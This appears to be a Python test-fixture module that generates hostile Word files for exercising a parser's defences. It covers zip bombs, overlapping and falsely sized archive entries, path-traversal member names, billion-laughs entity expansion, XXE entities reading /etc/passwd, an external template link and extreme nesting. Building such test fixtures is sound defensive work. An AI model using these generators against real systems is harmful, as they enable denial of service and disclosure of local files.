"""Word files made to do harm: archives that unpack to far more than they are, or to something else."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

import docx

from tests.hostile.texts import GOOD

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(*paragraphs: str) -> bytes:
    """A sound Word file."""
    made = docx.Document()
    for paragraph in paragraphs:
        made.add_paragraph(paragraph)
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def changed(members: Mapping[str, bytes], *, level: int = 9) -> bytes:
    """A sound Word file with some members put in the place of its own, or beside them."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(word(GOOD))) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as new,
    ):
        for name in old.namelist():
            if name not in members:
                new.writestr(name, old.read(name))
        for name, content in members.items():
            new.writestr(name, content)
    return file.getvalue()


def body(inside: str, *, before: str = "") -> bytes:
    """A `document.xml` with `inside` as its body."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document {W}><w:body>{inside}</w:body></w:document>'.encode()
    )


def _text(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def document(inside: str, *, before: str = "") -> bytes:
    """A Word file with `inside` as its body."""
    return changed({"word/document.xml": body(inside, before=before)})


def _zip(members: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _nested() -> bytes:
    inner = bytes(2_000_000)
    for depth in range(4):
        inner = _zip({f"{depth}-{number}.zip": inner for number in range(4)})
    return changed({"word/embeddings/nested.zip": inner})


def _overlapping() -> bytes:
    """Many entries of the directory that all point at one compressed member."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(5_000_000))
    data = file.getvalue()
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entries = data[start:end] * 5_000
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 5_000, 5_000, len(entries), start, 0)
    return data[:start] + entries + tail


def _declared(size: int) -> bytes:
    """A member that says it is `size` bytes long when it is unpacked."""
    data = bytearray(changed({"word/media/image1.png": b"x" * 1_234_567}))
    return bytes(data.replace(struct.pack("<L", 1_234_567), struct.pack("<L", size)))


def _marked(flag: int) -> bytes:
    """A Word file whose members say that they are encrypted, or packed in some way that nothing knows."""
    data = bytearray(word(GOOD))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            if flag:
                data[at + offset] |= flag
            else:
                data[at + offset + 2] = 99
            at = data.find(mark, at + 4)
    return bytes(data)


def _entities(doctype: str, used: str) -> Callable[[], bytes]:
    return lambda: document(_text(f"{used} {GOOD}"), before=f"<!DOCTYPE x [{doctype}]>")


_LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))

ARCHIVES: Mapping[str, Callable[[], bytes]] = {
    "ratio.docx": lambda: changed({"word/media/image1.png": bytes(101_000_000)}),
    "ratio-document.docx": lambda: document(_text("word " * 21_000_000)),
    "nested.docx": _nested,
    "overlapping.docx": _overlapping,
    "many.docx": lambda: changed({f"word/media/{number}.png": b"" for number in range(5_000)}),
    "same-names.docx": lambda: word(GOOD)[:-22] + word(GOOD),
    "declared-huge.docx": lambda: _declared(0xFFFFFFF0),
    "declared-small.docx": lambda: _declared(10),
    "locked.docx": lambda: _marked(1),
    "method.docx": lambda: _marked(0),
    "names.docx": lambda: changed({"../../escaped": b"x", "/etc/escaped": b"x", "word/\x1b[2J": b"x", "C:\\x": b"x"}),
    "entities.docx": _entities(_LAUGHS, "&a9;"),
    "entities-late.docx": lambda: document(
        _text(f"&a9; {GOOD}"), before=f"<!--{'x' * 70_000}--><!DOCTYPE x [{_LAUGHS}]>"
    ),
    "entities-parameter.docx": _entities('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;', ""),
    "external.docx": _entities('<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;"),
    "external-styles.docx": lambda: changed(
        {"word/styles.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}
    ),
    "external-link.docx": lambda: changed(
        {
            "word/_rels/document.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/><Relationship Id="s" Type="http://x/y" Target="../../../../etc/passwd"/></Relationships>'
        }
    ),
    "relations-loop.docx": lambda: changed(
        {
            "word/_rels/document.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://x/y" Target="document.xml"/><Relationship Id="s" Type="http://x/y" Target="../word/document.xml"/></Relationships>'
        }
    ),
    "deep.docx": lambda: document("<w:sdt>" * 30_000 + _text(GOOD) + "</w:sdt>" * 30_000),
    "deep-allowed.docx": lambda: document("<w:sdt>" * 240 + _text(GOOD) + "</w:sdt>" * 240),
    "deep-tables.docx": lambda: document("<w:tbl><w:tr><w:tc>" * 80 + _text(GOOD) + "</w:tc></w:tr></w:tbl>" * 80),
    "deep-runs.docx": lambda: document(
        "<w:p>" + "<w:ins>" * 200 + f"<w:r><w:t>{GOOD}</w:t></w:r>" * 500 + "</w:ins>" * 200 + "</w:p>"
    ),
    "wide.docx": lambda: document(_text("a") * 20_000),
    "wide-runs.docx": lambda: document("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 50_000 + "</w:p>"),
    "cells.docx": lambda: document("<w:tbl><w:tr>" + f"<w:tc>{_text('a')}</w:tc>" * 5_000 + "</w:tr></w:tbl>"),
    "attributes.docx": lambda: document(
        "<w:p " + " ".join(f"a{number}='1'" for number in range(50_000)) + f"/>{_text(GOOD)}"
    ),
    "fat-attribute.docx": lambda: document(f"<w:p a='{'x' * 20_000_000}'/>{_text(GOOD)}"),
    "controls.docx": lambda: document(_text("\u202e" + GOOD + "&#x200b;&#xFEFF;")),
    "control-reference.docx": lambda: document(_text(GOOD + "&#0;")),
    "encoding.docx": lambda: changed(
        {"word/document.xml": f'<?xml version="1.0" encoding="utf-7"?><w:document {W}><w:body/></w:document>'.encode()}
    ),
    "no-types.docx": lambda: _zip({"word/document.xml": body(_text(GOOD))}),
    "archive.docx": lambda: _zip({"notes.txt": GOOD.encode(), "a/b.txt": b"x"}),
    "sheet.docx": lambda: _zip({"xl/workbook.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}),
    "no-document.docx": lambda: changed({"word/document.xml": b""}),
    "cut.docx": lambda: word(GOOD)[:-200],
    "text.docx": GOOD.encode,
    "docx-as.txt": lambda: changed({"word/media/image1.png": bytes(101_000_000)}),
    "page.docx": lambda: b"<!doctype html><html><body><p>" + GOOD.encode() + b"</p></body></html>",
}
